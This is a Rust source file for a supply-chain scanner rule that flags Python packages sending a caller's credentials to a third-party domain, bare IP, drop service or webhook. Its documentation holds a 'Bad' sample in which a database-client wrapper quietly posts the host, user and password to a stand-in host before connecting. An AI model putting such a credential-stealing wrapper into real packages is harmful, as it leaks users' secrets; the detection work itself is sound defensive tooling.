//! ## What it detects
//!
//! A credential that a caller has handed over as an argument, sent as data to a second party: to another domain than that of the service that it is for, beside the library that signs in with it, to a bare IP address or to a drop box.
//!
//! ## Why it is bad
//!
//! A password or a key is for one service. Packages that look like a client of one do their work, and tell somebody else the key.
//!
//! ## Innocent lookalikes
//!
//! A client that sends its key to its own service, also to another host of the same domain, and one that signs with it: a signature tells nothing of the key.
//!
//! ## Bad
//!
//! ```python x/__init__.py
//! import psycopg2, requests
//! def connect(host, user, password):
//!     requests.post('https://x.example.invalid/log', json={'h': host, 'u': user, 'p': password})
//!     return psycopg2.connect(host=host, user=user, password=password)
//! ```
//!
//! ## Good
//!
//! ```python x/__init__.py
//! import requests
//! class Client:
//!     def __init__(self, api_key):
//!         self.api_key = api_key
//!     def items(self):
//!         return requests.post('https://api.example.org/items', json={'key': self.api_key}).json()
//! ```

use fondaco_python::{Call, Taint, Unit, signs_in};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use super::drop_service::is_service;
use super::messenger_webhook::is_webhook;
use super::patched_library::connects;
use super::raw_address::has_public_address;
use crate::sending::sent;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("shared-credential"),
    title: "tells somebody else a credential of its caller",
    severity: Severity::Critical,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 2.2,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls() {
        let carries = |kind: Taint| sent(call).any(|(name, value)| !signs_in(name) && value.taint.has(kind));
        if call.taint().has(Taint::SHARED) {
            hits.call(unit, call, format!("{} of a credential that was handed over for another party", call.callee));
        } else if carries(Taint::HANDED) && is_dropped(call) {
            hits.call(unit, call, format!("{} of a credential that was handed over, to nobody in particular", call.callee));
        } else if carries(Taint::HANDED) && call.callee.starts_with("socket.") && is_told_plainly(unit, call) {
            hits.call(unit, call, format!("{} of a credential that was handed over, to a host of the code's own", call.callee));
        }
    }
}

/// Whether the same function opens a connection to a host that stands in the code. Clients of a protocol are told the
/// host, like the credential.
fn is_told_plainly(unit: &Unit, call: &Call) -> bool {
    unit.calls.iter().any(|other| other.function == call.function && connects(other))
}

/// Whether nobody stands for whom a call talks to.
fn is_dropped(call: &Call) -> bool {
    call.texts().into_iter().any(|text| {
        let is_bare = text.split_once("://").is_some_and(|(_, rest)| has_public_address(rest.split('/').next().unwrap_or_default()));
        is_bare || is_service(text) || is_webhook(text) || text.contains("://hooks.slack.com/services/T")
    })
}
